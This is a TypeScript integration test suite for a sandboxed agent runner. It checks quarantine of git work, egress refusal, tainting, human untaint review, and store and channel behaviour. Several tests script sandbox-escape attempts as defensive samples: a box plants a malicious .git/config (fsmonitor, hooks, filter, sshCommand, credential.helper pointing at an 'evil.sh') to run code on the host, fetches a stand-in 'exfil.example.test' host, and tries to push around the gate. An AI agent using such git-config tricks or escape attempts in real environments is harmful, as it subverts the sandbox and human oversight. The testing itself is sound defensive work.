import Dockerode from "dockerode"
import { execFileSync } from "node:child_process"
import * as fs from "node:fs"
import * as path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { collect, type Deployment, makeDeployment } from "../support/deployment.js"
import { latestRunId } from "../support/runs.js"
import { warmBoxOf } from "../support/warmBoxes.js"
import { GIT_IMAGE } from "./globalSetup.js"

const docker = new Dockerode()

/** git on the host, as the test (it may open any repository). */
const sh = (cwd: string, ...args: Array<string>) =>
  execFileSync("git", ["-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@example.com", ...args], { cwd, encoding: "utf8" }).trim()

interface RunView {
  readonly id: string
  readonly record: {
    readonly knowledge?: ReadonlyArray<Record<string, unknown>>
    readonly knowledge_pushes?: ReadonlyArray<Record<string, unknown>>
    readonly channel?: string
    readonly store_snapshot?: string | null
    readonly tainted?: ReadonlyArray<Record<string, unknown>>
    readonly warm?: boolean
    readonly warm_box?: string
  }
  readonly stdout: string
}

const lastRun = (d: Deployment): RunView => {
  const dir = d.file("data", "runs", "alice")
  const id = latestRunId(dir)
  return {
    id,
    record: JSON.parse(fs.readFileSync(path.join(dir, id, "run.json"), "utf8")),
    stdout: fs.readFileSync(path.join(dir, id, "stdout.jsonl"), "utf8")
  }
}

/** A script the box runs from its store, so the prompt stays one line. */
const script = (d: Deployment, name: string, body: string) => {
  const dir = d.file("data", "stores", "alice")
  fs.mkdirSync(dir, { recursive: true })
  fs.writeFileSync(path.join(dir, name), body, { mode: 0o755 })
  return `!sh /pihome/store/${name}`
}

// knowledge_push from inside the box: the action the pi extension posts, with the run's own token.
const PUSH = `push() { node -e '
const u = new URL(process.env.HTTP_PROXY), http = require("http")
const r = http.request({ host: u.hostname, port: u.port, method: "POST", path: "/v1/actions/knowledge_push", agent: new http.Agent(),
  headers: { authorization: "Bearer " + decodeURIComponent(u.username), "content-type": "application/json" } },
  (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => console.log("PUSH " + res.statusCode + " " + b)) })
r.end("{}")'; }
`

describe("gated repos, channels and stores in a real box (real engine, real git, the real gateway)", () => {
  let d: Deployment
  let canonical: string

  beforeAll(async () => {
    const repos = fs.mkdtempSync(path.join(process.env.TMPDIR ?? "/tmp", "roster-it-repos-"))
    canonical = path.join(repos, "knowledge.git")
    const seed = path.join(repos, "seed")
    fs.mkdirSync(path.join(seed, "policy"), { recursive: true })
    sh(repos, "init", "--quiet", "--initial-branch=main", seed)
    fs.writeFileSync(path.join(seed, "README.md"), "the team's notes\n")
    fs.writeFileSync(path.join(seed, "policy", "rules.md"), "be kind\n")
    sh(seed, "add", "-A")
    sh(seed, "commit", "--quiet", "-m", "first")
    sh(repos, "clone", "--quiet", "--bare", seed, canonical)
    d = await makeDeployment(
      `[[mount]]\nname = "knowledge"\npath = "${canonical}"\nkind = "repo"\ngated = true\nrw = true\nprotect = ["policy"]\n`,
      GIT_IMAGE
    )
  }, 120_000)

  afterAll(async () => {
    await d?.stop()
  })

  it("work committed and left uncommitted is quarantined; the default branch and the read-only origin are untouched; node's fetch goes through the gateway", async () => {
    const base = sh(canonical, "rev-parse", "main")
    const prompt = script(d, "work.sh", `cd /pihome/mnt/knowledge || exit 3
echo "box says hi" > notes.md
git add notes.md && git commit -qm "box work" && echo COMMITTED
echo draft > draft.md
touch /pihome/mnt/.origins/knowledge/planted 2>/dev/null && echo ORIGIN-WRITABLE || echo ORIGIN-READONLY
git push -q origin HEAD:refs/heads/main 2>/dev/null && echo PUSHED-AROUND-THE-GATE || echo RAW-PUSH-REFUSED
git fetch -q origin && echo FETCH-OK
echo "BRANCH $(git rev-parse --abbrev-ref HEAD)"
echo "REPOS $ROSTER_REPOS_JSON"
echo "KDIR $ROSTER_KNOWLEDGE_DIR"
node -e 'fetch("http://blocked.example.test/").then((r) => console.log("NODE-FETCH status " + r.status), (e) => console.log("NODE-FETCH error " + e.message + " / " + (e.cause?.message ?? "")))'
`)
    const r = await d.roster(["worker", "run", "alice", prompt])
    expect(r.code, r.stderr).toBe(0)
    const run = lastRun(d)
    for (const mark of ["COMMITTED", "ORIGIN-READONLY", "RAW-PUSH-REFUSED", "FETCH-OK", `BRANCH roster/alice/${run.id}`, "KDIR /pihome/mnt/knowledge"]) {
      expect(run.stdout).toContain(mark)
    }
    const repos = JSON.parse(/REPOS (.*)/.exec(run.stdout)?.[1] ?? "[]")
    expect(repos).toEqual([{ connection: "knowledge", dir: "/pihome/mnt/knowledge", base, branch: `roster/alice/${run.id}`, mode: "rw" }])
    // NODE_USE_ENV_PROXY: Node's own fetch asked the gateway (which refused the host), never a resolver.
    // (undici tunnels with CONNECT; the gateway refused the host, so fetch fails — never with a DNS error.)
    expect(run.stdout).toContain("NODE-FETCH error fetch failed")
    const audit = execFileSync("grep", ["-rh", "blocked.example.test", d.file("state", "audit")], { encoding: "utf8" }).trim().split("\n").map((l) => JSON.parse(l))
    expect(audit).toContainEqual(expect.objectContaining({ run_id: run.id, subject: "org/alice", host: "blocked.example.test", method: "CONNECT", status: 403 }))

    const ref = `refs/quarantine/run-${run.id}`
    expect(run.record.knowledge).toEqual([{ connection: "knowledge", base, head: sh(canonical, "rev-parse", ref), quarantined_ref: ref }])
    expect(sh(canonical, "rev-parse", "main")).toBe(base)
    expect(sh(canonical, "show", `${ref}:draft.md`)).toBe("draft")
    expect(sh(canonical, "show", `${ref}^:notes.md`)).toBe("box says hi")
    expect(fs.existsSync(d.file("data", "repos", "alice", run.id))).toBe(false)
    // Asking for a host no rule allows taints the run: its work stays quarantined for a person.
    expect(run.record.tainted).toEqual([expect.objectContaining({ reason: "egress_refused", host: "blocked.example.test", detail: "no_rule" })])
    const shown = await d.roster(["runs", "show", run.id])
    expect(shown.stdout).toContain(`repo:      knowledge: unlanded work kept on ${ref}`)
    expect(shown.stdout).toContain("tainted:   egress_refused (blocked.example.test): no_rule")
    expect(shown.stdout).toContain(`roster runs untaint ${run.id} --reason`)
  }, 120_000)

  it("a box that runs git init in a sub-folder of its clone: its commits are still parked, and the clone is kept, not deleted", async () => {
    const prompt = script(d, "nested.sh", `cd /pihome/mnt/knowledge || exit 3
echo kept > kept.md && git add kept.md && git commit -qm "box work" && echo COMMITTED
mkdir -p vendor/lib && cd vendor/lib && git init -q && echo inner > inner.md && echo NESTED
`)
    const r = await d.roster(["worker", "run", "alice", prompt])
    expect(r.code, r.stderr).toBe(0)
    const run = lastRun(d)
    expect(run.stdout).toContain("NESTED")
    const ref = `refs/quarantine/run-${run.id}`
    const clone = d.file("data", "repos", "alice", run.id, "knowledge")
    expect(run.record.knowledge).toEqual([expect.objectContaining({ connection: "knowledge", quarantined_ref: ref, kept: clone })])
    expect(String(run.record.knowledge?.[0]?.error)).toContain("vendor/lib/ is a git repository of its own, not parked")
    expect(sh(canonical, "show", `${ref}:kept.md`)).toBe("kept")
    expect(fs.readFileSync(path.join(clone, "vendor", "lib", "inner.md"), "utf8")).toBe("inner\n")
    const shown = await d.roster(["runs", "show", run.id])
    expect(shown.stdout).toContain(`the clone is kept at ${clone}`)
    fs.rmSync(d.file("data", "repos", "alice", run.id), { recursive: true, force: true })
  }, 120_000)

  it("a run whose checkouts.json is corrupted while it runs keeps every clone, says where (its record and the daemon's log), and parks nothing (issue 64.3)", async () => {
    const runs = d.file("data", "runs", "alice")
    const before = new Set(fs.readdirSync(runs))
    const prompt = script(d, "corrupt.sh", `cd /pihome/mnt/knowledge || exit 3
echo unlanded > unlanded.md && git add unlanded.md && git commit -qm "work not landed" && echo COMMITTED
sleep 8
`)
    const child = d.spawn(["worker", "run", "alice", prompt])
    const done = collect(child)
    // The run's own folder (its record), once its box has committed.
    let runId = ""
    const deadline = Date.now() + 60_000
    while (Date.now() < deadline && runId === "") {
      runId = fs.readdirSync(runs).find((r) => !before.has(r) && fs.existsSync(path.join(runs, r, "run.json")) &&
        fs.existsSync(path.join(runs, r, "stdout.jsonl")) && fs.readFileSync(path.join(runs, r, "stdout.jsonl"), "utf8").includes("COMMITTED")) ?? ""
      if (runId === "") await new Promise((r) => setTimeout(r, 200))
    }
    expect(runId, "the run's box committed").not.toBe("")
    const reposDir = d.file("data", "repos", "alice", runId)
    const record = path.join(reposDir, ".host", "checkouts.json")
    expect(fs.existsSync(record)).toBe(true)
    fs.writeFileSync(record, "{ not the checkouts")
    const ended = await done
    expect(ended.code, ended.stderr).toBe(0)
    const run = JSON.parse(fs.readFileSync(path.join(runs, runId, "run.json"), "utf8")) as RunView["record"]
    expect(run.knowledge).toEqual([expect.objectContaining({ kept: reposDir, error: expect.stringContaining(`${record} could not be read`) })])
    // The clone and its work are where they were; nothing was parked from it.
    expect(fs.readFileSync(path.join(reposDir, "knowledge", "unlanded.md"), "utf8")).toBe("unlanded\n")
    expect(sh(canonical, "for-each-ref", `refs/quarantine/run-${runId}`)).toBe("")
    // Said where the run's end ran: the daemon's log (a handed-over run), or the CLI's own stderr.
    const log = fs.readFileSync(d.file("state", "gateway.log"), "utf8") + ended.stderr
    expect(log).toContain(`run ${runId}: ${record} could not be read`)
    expect(log).toContain(`rm -rf ${reposDir}`)
    fs.rmSync(reposDir, { recursive: true, force: true })
  }, 120_000)

  it("knowledge_push lands a fast-forward and refuses a protected path; the next briefing names what is not landed", async () => {
    const prompt = script(d, "push.sh", `${PUSH}cd /pihome/mnt/knowledge || exit 3
echo landed > landed.md && git add landed.md && git commit -qm land && push
echo "be sneaky" >> policy/rules.md && git commit -qam sneaky && push
git reset -q --hard HEAD~2 && echo other > other.md && git add other.md && git commit -qm other && push
`)
    const r = await d.roster(["worker", "run", "alice", prompt])
    expect(r.code, r.stderr).toBe(0)
    const run = lastRun(d)
    const pushes = run.stdout.split("\n").filter((l) => l.startsWith("PUSH "))
    expect(pushes[0]).toMatch(/^PUSH 200 .*"landed_ref":"refs\/heads\/main"/)
    expect(pushes[1]).toMatch(/^PUSH 409 .*protected paths \(policy\/rules\.md\)/)
    expect(pushes[2]).toMatch(/^PUSH 409 .*not a fast-forward: main is at [0-9a-f]{12}, which your branch does not contain/)
    expect(sh(canonical, "log", "-1", "--format=%s", "main")).toBe("land")
    expect(sh(canonical, "show", "main:policy/rules.md")).toBe("be kind")
    expect(run.record.knowledge_pushes?.map((p) => p.ok)).toEqual([true, false, false])
    expect(run.record.knowledge?.[0]?.quarantined_ref).toBe(`refs/quarantine/run-${run.id}`)
    // The earlier run was tainted: its work is named apart, held for a person.
    const context = JSON.parse(fs.readFileSync(d.file("data", "runs", "alice", run.id, "context.json"), "utf8")) as { system_prompt: string }
    expect(context.system_prompt).toMatch(/Held for a person's review, because the run that made it was tainted \(refs\/quarantine\/run-[0-9a-f-]+: egress_refused \(blocked\.example\.test\)/)
    // The next run is told about both unlanded runs.
    const next = await d.roster(["worker", "run", "alice", "!true"])
    expect(next.code).toBe(0)
    const briefed = JSON.parse(fs.readFileSync(d.file("data", "runs", "alice", lastRun(d).id, "context.json"), "utf8")) as { system_prompt: string }
    expect(briefed.system_prompt).toContain(`Not landed yet from your earlier runs (fetch them from origin to pick them up): refs/quarantine/run-${run.id}`)
  }, 120_000)

  it("a tainted run's knowledge_push is refused; a person's untaint lands its quarantined work and is recorded", async () => {
    const prompt = script(d, "tainted.sh", `${PUSH}cd /pihome/mnt/knowledge || exit 3
git fetch -q origin && git reset -q --hard origin/main
echo careful > careful.md && git add careful.md && git commit -qm careful
node -e 'fetch("https://exfil.example.test/").then(() => console.log("EXFIL reached"), () => console.log("EXFIL refused"))'
push
`)
    const r = await d.roster(["worker", "run", "alice", prompt])
    expect(r.code, r.stderr).toBe(0)
    const run = lastRun(d)
    expect(run.stdout).toContain("EXFIL refused")
    expect(run.stdout).toMatch(/PUSH 403 .*this run is tainted \(egress_refused \(exfil\.example\.test\)/)
    const ref = `refs/quarantine/run-${run.id}`
    expect(sh(canonical, "show", `${ref}:careful.md`)).toBe("careful")
    expect(() => sh(canonical, "show", "main:careful.md")).toThrow()
    const untainted = await d.roster(["runs", "untaint", run.id, "--reason", "the refused fetch was harmless; diff reviewed"])
    expect(untainted.code, untainted.stderr).toBe(0)
    expect(untainted.stdout).toContain(`knowledge ${ref}: landed on main`)
    expect(sh(canonical, "show", "main:careful.md")).toBe("careful")
    const shown = await d.roster(["runs", "show", run.id])
    expect(shown.stdout).toContain("untainted: ")
    expect(shown.stdout).toContain("the refused fetch was harmless; diff reviewed")
    const again = await d.roster(["runs", "untaint", run.id, "--reason", "twice"])
    expect(again.code).toBe(1)
    expect(again.stderr).toContain("is not tainted")
  }, 120_000)

  it("a .git/config the box plants with an fsmonitor, hooks, a filter and an sshCommand never runs on the host", async () => {
    const canary = d.file("canary")
    // The host path of the box's clone is the attacker's guess made good: the box writes it into its config.
    const prompt = script(d, "plant.sh", `${PUSH}cd /pihome/mnt/knowledge || exit 3
H="${d.file("data", "repos", "alice")}/$ROSTER_RUN_ID/knowledge"
printf '#!/bin/sh\\necho "$0 $*" >> ${canary}\\ncat\\n' > evil.sh && chmod +x evil.sh
mkdir -p .git/evil-hooks && for h in post-checkout reference-transaction post-index-change pre-commit; do cp evil.sh .git/evil-hooks/$h; done
git config core.fsmonitor "$H/evil.sh" && git config core.hooksPath "$H/.git/evil-hooks" && git config core.sshCommand "$H/evil.sh"
git config filter.evil.clean "$H/evil.sh clean" && git config filter.evil.smudge "$H/evil.sh smudge" && git config filter.evil.required true
git config credential.helper "!$H/evil.sh" && git config uploadpack.packObjectsHook "$H/evil.sh"
echo more > more.md && git -c core.hooksPath=/dev/null -c core.fsmonitor=false add more.md && git -c core.hooksPath=/dev/null -c core.fsmonitor=false commit -qm more && push
echo '* filter=evil' > .gitattributes
echo uncommitted > loose.md
`)
    const r = await d.roster(["worker", "run", "alice", prompt])
    expect(r.code, r.stderr).toBe(0)
    const run = lastRun(d)
    expect(run.stdout).toMatch(/^PUSH 200 /m)
    expect(run.record.knowledge?.[0]?.quarantined_ref).toBe(`refs/quarantine/run-${run.id}`)
    expect(fs.existsSync(canary) ? fs.readFileSync(canary, "utf8") : "").toBe("")
  }, 120_000)

  it("a channel's store survives across its runs and is absent elsewhere", async () => {
    const use = script(d, "channel.sh", `echo "seen: $(cat /pihome/channel/store/count 2>/dev/null || echo none)"
echo once >> /pihome/channel/store/count
echo "dir: $ROSTER_CHANNEL_DIR"
# find, not ls: Debian 12's gVisor (runsc 2022-12-19) refuses the statx flag coreutils' ls passes (see box/engine/statx-shim.c)
find /pihome/channel -mindepth 1 -maxdepth 1
touch /pihome/channel/planted 2>/dev/null && echo CHANNEL-WRITABLE || echo CHANNEL-READONLY
`)
    expect((await d.roster(["worker", "run", "alice", "--channel", "ops", use])).code).toBe(0)
    expect(lastRun(d).stdout).toContain("seen: none")
    expect(lastRun(d).stdout).toContain("CHANNEL-READONLY")
    expect(lastRun(d).stdout).toContain("history.jsonl")
    expect(lastRun(d).record.channel).toBe("ops")
    expect((await d.roster(["worker", "run", "alice", "--channel", "ops", use])).code).toBe(0)
    expect(lastRun(d).stdout).toContain("seen: once")
    expect((await d.roster(["worker", "run", "alice", use])).code).toBe(0)
    expect(lastRun(d).stdout).toContain("seen: none")
    expect(lastRun(d).stdout).toContain("dir: \n")
    expect((await d.roster(["worker", "run", "alice", "--channel", "other", use])).code).toBe(0)
    expect(lastRun(d).stdout).toContain("seen: none")
  }, 180_000)

  it("store restore round-trips, and is refused while a box of the worker runs", async () => {
    const write = (v: string) => script(d, `write-${v}.sh`, `echo ${v} > /pihome/store/value\n`)
    expect((await d.roster(["worker", "run", "alice", write("one")])).code).toBe(0)
    const first = lastRun(d).record.store_snapshot?.split("/").at(-1) ?? ""
    expect(first).toBe(lastRun(d).id)
    expect((await d.roster(["worker", "run", "alice", write("two")])).code).toBe(0)
    expect(fs.readFileSync(d.file("data", "stores", "alice", "value"), "utf8")).toBe("two\n")
    const listed = await d.roster(["store", "list", "alice", "--json"])
    expect(JSON.parse(listed.stdout).map((s: { id: string }) => s.id)).toContain(first)

    const long = d.spawn(["worker", "run", "alice", "!sleep 60"])
    const deadline = Date.now() + 30_000
    while (Date.now() < deadline && (await docker.listContainers({ filters: { label: [`roster.deployment=${d.file("config")}`] } })).length === 0) {
      await new Promise((r) => setTimeout(r, 200))
    }
    const refused = await d.roster(["store", "restore", "alice", first])
    expect(refused.code).not.toBe(0)
    expect(refused.stderr).toContain("alice has a box running")
    long.kill("SIGINT")
    await new Promise((r) => long.once("close", r))

    const restored = await d.roster(["store", "restore", "alice", first])
    expect(restored.code, restored.stderr).toBe(0)
    expect(restored.stdout).toContain(`store of alice restored from ${first}`)
    expect(fs.readFileSync(d.file("data", "stores", "alice", "value"), "utf8")).toBe("one\n")
    const seen = script(d, "read.sh", "cat /pihome/store/value\n")
    expect((await d.roster(["worker", "run", "alice", seen])).code).toBe(0)
    expect(lastRun(d).stdout).toContain("one")
  }, 180_000)

  it("a warm run is briefed as a cold run would be: the system prompt its box got is its context.json's, its repo's unlanded and held work named; one whose briefing changed since (a ref taken) is another box", async () => {
    const mount = `[[mount]]\nname = "knowledge"\npath = "${canonical}"\nkind = "repo"\ngated = true\nrw = true\nprotect = ["policy"]\n`
    // The argument the box's pi was started with, read from inside the box.
    const system = script(d, "system.sh", `node -e '
const fs = require("fs")
for (const p of fs.readdirSync("/proc").filter((n) => /^[0-9]+$/.test(n))) {
  let a
  try { a = fs.readFileSync("/proc/" + p + "/cmdline", "utf8").split("\\0") } catch { continue }
  const i = a.indexOf("--append-system-prompt")
  if (i >= 0) { console.log("SYSTEM " + JSON.stringify(a[i + 1])); break }
}'
`)
    const systemOf = (run: ReturnType<typeof lastRun>) => JSON.parse(/^SYSTEM (.*)$/m.exec(run.stdout)?.[1] ?? "null") as string | null
    const contextOf = (run: ReturnType<typeof lastRun>) => (JSON.parse(fs.readFileSync(d.file("data", "runs", "alice", run.id, "context.json"), "utf8")) as { system_prompt: string }).system_prompt
    d.writeOrg(`${mount}[box]\nwarm = "recent"\n`)
    try {
      expect((await d.roster(["worker", "run", "alice", "!true"])).code).toBe(0)
      const warm = await warmBoxOf(docker, d.file("config"), "alice")
      expect(warm).not.toBe("")
      expect((await d.roster(["worker", "run", "alice", system])).code).toBe(0)
      const run = lastRun(d)
      expect(run.record).toMatchObject({ warm: true, warm_box: warm })
      expect(systemOf(run)).toBe(contextOf(run))
      expect(systemOf(run)).toContain("Held for a person's review, because the run that made it was tainted")
      // A person takes one of the unlanded refs: the next run's briefing differs from what the waiting box was made with.
      const next = await warmBoxOf(docker, d.file("config"), "alice")
      expect(next).not.toBe("")
      const ref = /refs\/quarantine\/run-[0-9a-f-]+/.exec(contextOf(run))?.[0] ?? ""
      sh(canonical, "update-ref", "-d", ref)
      expect((await d.roster(["worker", "run", "alice", system])).code).toBe(0)
      const after = lastRun(d)
      // A box of its own, briefed as the run is now (the scripted engine's one-shot execs the command: no pi left to read).
      expect(after.record.warm).toBe(false)
      expect(contextOf(after)).not.toContain(ref)
      expect(contextOf(after)).not.toBe(contextOf(run))
    } finally {
      d.writeOrg(mount)
    }
  }, 180_000)

  it("a warm box's clone, made before its canonical repo moved on, starts the run at the new head on the run's branch; its work is parked from there", async () => {
    const mount = `[[mount]]\nname = "knowledge"\npath = "${canonical}"\nkind = "repo"\ngated = true\nrw = true\nprotect = ["policy"]\n`
    d.writeOrg(`${mount}[box]\nwarm = "recent"\n`)
    try {
      expect((await d.roster(["worker", "run", "alice", "!true"])).code).toBe(0)
      const warmId = () => warmBoxOf(docker, d.file("config"), "alice")
      const warm = await warmId()
      expect(warm).not.toBe("")
      // The default branch moves on after the box and its clone were made.
      const elsewhere = path.join(fs.mkdtempSync(path.join(process.env.TMPDIR ?? "/tmp", "roster-it-later-")), "w")
      sh(path.dirname(elsewhere), "clone", "--quiet", canonical, elsewhere)
      fs.writeFileSync(path.join(elsewhere, "later.md"), "written after the warm box\n")
      sh(elsewhere, "add", "-A")
      sh(elsewhere, "commit", "--quiet", "-m", "later")
      sh(elsewhere, "push", "--quiet", "origin", "HEAD:main")
      const moved = sh(canonical, "rev-parse", "main")
      const prompt = script(d, "warm.sh", `cd /pihome/mnt/knowledge || exit 3
echo "HEAD $(git rev-parse HEAD)"
echo "BRANCH $(git rev-parse --abbrev-ref HEAD)"
cat later.md
echo warm > warm.md && git add warm.md && git commit -qm "warm work" && echo COMMITTED
`)
      const r = await d.roster(["worker", "run", "alice", prompt])
      expect(r.code, r.stderr).toBe(0)
      // The run took the box under its own id: its clones' folder and branch renamed to the run's.
      const run = lastRun(d)
      expect(run.id).not.toBe(warm)
      expect(run.record).toMatchObject({ warm: true, warm_box: warm })
      for (const mark of [`HEAD ${moved}`, `BRANCH roster/alice/${run.id}`, "written after the warm box", "COMMITTED"]) expect(run.stdout).toContain(mark)
      const ref = `refs/quarantine/run-${run.id}`
      expect(run.record.knowledge).toEqual([{ connection: "knowledge", base: moved, head: sh(canonical, "rev-parse", ref), quarantined_ref: ref }])
      expect(sh(canonical, "rev-parse", `${ref}^`)).toBe(moved)
      expect(sh(canonical, "rev-parse", "main")).toBe(moved)
      expect(fs.existsSync(d.file("data", "repos", "alice", warm))).toBe(false)
      expect(fs.existsSync(d.file("data", "repos", "alice", run.id))).toBe(false)
      // The next warm box, with its own clone, left by a daemon killed with -9: the next daemon removes its clone too.
      const next = await warmId()
      expect(next).not.toBe("")
      expect(fs.existsSync(d.file("data", "repos", "alice", next, "knowledge"))).toBe(true)
      const { pid } = JSON.parse((await d.roster(["server", "status", "--json"])).stdout) as { pid: number }
      process.kill(pid, "SIGKILL")
      const by = Date.now() + 20_000
      const alive = () => {
        try {
          process.kill(pid, 0)
          return true
        } catch {
          return false
        }
      }
      while (alive() && Date.now() < by) await new Promise((r) => setTimeout(r, 100))
      d.writeOrg(mount)
      const started = await d.roster(["server", "start"])
      expect(started.code, started.stderr).toBe(0)
      const gone = Date.now() + 20_000
      while (fs.existsSync(d.file("data", "repos", "alice", next)) && Date.now() < gone) await new Promise((r) => setTimeout(r, 200))
      expect(fs.existsSync(d.file("data", "repos", "alice", next))).toBe(false)
    } finally {
      d.writeOrg(mount)
    }
  }, 180_000)
})
